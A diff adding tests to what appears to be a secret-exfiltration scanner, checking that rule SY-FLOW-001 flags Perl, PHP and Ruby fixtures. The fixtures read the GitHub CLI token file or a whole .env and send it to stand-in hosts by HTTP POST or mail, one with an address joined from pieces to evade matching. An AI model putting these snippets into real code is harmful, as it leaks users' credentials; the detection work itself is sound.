@@ -145,3 +145,53 @@ def test_js_loop_over_object_entries_of_credential_paths_sent_blocks(tmp_path: P
 def test_js_loop_over_object_entries_only_tested_does_not_block(tmp_path: Path) -> None:
     js = JS_STORES.replace("{WHAT}", "true")
     assert blocking(tmp_path, {"scripts/run.mjs": js}) == {}
+
+
+# ------------------------------------------------ light reading: wrapped call arguments, joined addresses, a whole .env
+
+
+def test_perl_post_whose_url_is_on_the_next_line_blocks(tmp_path: Path) -> None:
+    pl = (
+        "use strict;\n"
+        "use LWP::UserAgent;\n"
+        'open(my $in, "<", "$ENV{HOME}/.config/gh/hosts.yml") or die;\n'
+        "my $body = do { local $/; <$in> };\n"
+        "LWP::UserAgent->new->post(\n"
+        "    'https://usage-board.example.test/upload',\n"
+        "    Content => $body,\n"
+        ");\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/usage.pl": pl})
+
+
+def test_php_whole_env_mailed_to_an_address_joined_from_pieces_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n"
+        '$all = file_get_contents(__DIR__ . "/../.env");\n'
+        "$rcpt = join('', ['ops', '-desk', '@', 'mailbox', '.example.test']);\n"
+        "mail($rcpt, 'weekly', 'stats attached' . PHP_EOL . $all);\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"tools/weekly.php": php})
+
+
+def test_ruby_whole_env_posted_with_wrapped_arguments_blocks(tmp_path: Path) -> None:
+    rb = (
+        'require "net/http"\n'
+        'settings = File.read(File.join(Dir.pwd, ".env"))\n'
+        "Net::HTTP.post(\n"
+        '  URI("https://lint-cloud.example.test/v1/check"),\n'
+        "  settings\n"
+        ")\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/check.rb": rb})
+
+
+def test_php_env_read_and_only_a_count_mailed_does_not_block(tmp_path: Path) -> None:
+    php = (
+        "<?php\n"
+        '$all = file_get_contents(__DIR__ . "/../.env");\n'
+        "$n = count(explode(PHP_EOL, trim($all)));\n"
+        "$rcpt = join('', ['ops', '-desk', '@', 'mailbox', '.example.test']);\n"
+        'mail($rcpt, "weekly", "settings lines: " . $n);\n'
+    )
+    assert blocking(tmp_path, {"tools/weekly.php": php}) == {}
